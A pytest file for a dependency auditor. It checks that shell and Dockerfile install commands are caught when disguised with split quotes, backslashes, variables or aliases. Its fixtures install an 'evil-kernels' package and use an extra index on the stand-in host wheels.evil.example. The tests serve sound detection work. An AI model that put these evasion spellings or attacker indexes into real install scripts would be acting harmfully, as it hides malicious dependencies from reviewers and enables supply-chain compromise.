"""pip installs spelt so that a text search misses them (issue 30, item 8): the shell reads
``p''ip``, ``i\\nstall`` or ``$PIP`` as pip install, so the dependency is declared all the same."""

from __future__ import annotations

import pytest

from auditor.deps.declaration import Kind
from auditor.deps.extract.shell import extract


@pytest.mark.parametrize(("path", "text", "line"), [
    ("install.sh", "p''ip install evil-kernels==1.0\n", 1),
    ("install.sh", "P=pip\n$P i\\nstall evil-kernels==1.0\n", 2),
    ("install.sh", "\"pip\"3 ins'tall' evil-kernels==1.0\n", 1),
    ("install.sh", "py=python3\n$py -m p\\ip install evil-kernels==1.0\n", 2),
    ("install.sh", "alias get='pip install'\nget evil-kernels==1.0\n", 2),
    ("docker/Dockerfile", "FROM python:3.12\nRUN u''v p''ip install evil-kernels==1.0\n", 2),
])
def test_respelt_pip_install_is_declared(path: str, text: str, line: int) -> None:
    found = [d for d in extract(path, text).declarations if d.name == "evil-kernels"]
    assert [(d.line, d.pin, d.kind) for d in found] == [(line, "1.0", Kind.PYPI)]


def test_respelt_index_option_is_declared() -> None:
    text = "I=--extra-index-url\np''ip install $I https://wheels.evil.example/simple x==1\n"
    decl = extract("setup.sh", text).declarations
    assert any(d.kind is Kind.INDEX and d.url == "https://wheels.evil.example/simple"
               for d in decl), decl


def test_plain_install_is_declared_once() -> None:
    decl = extract("install.sh", "pip install ok==1\necho 'p''ip install is a word'\n")
    assert [d.name for d in decl.declarations] == ["ok"]
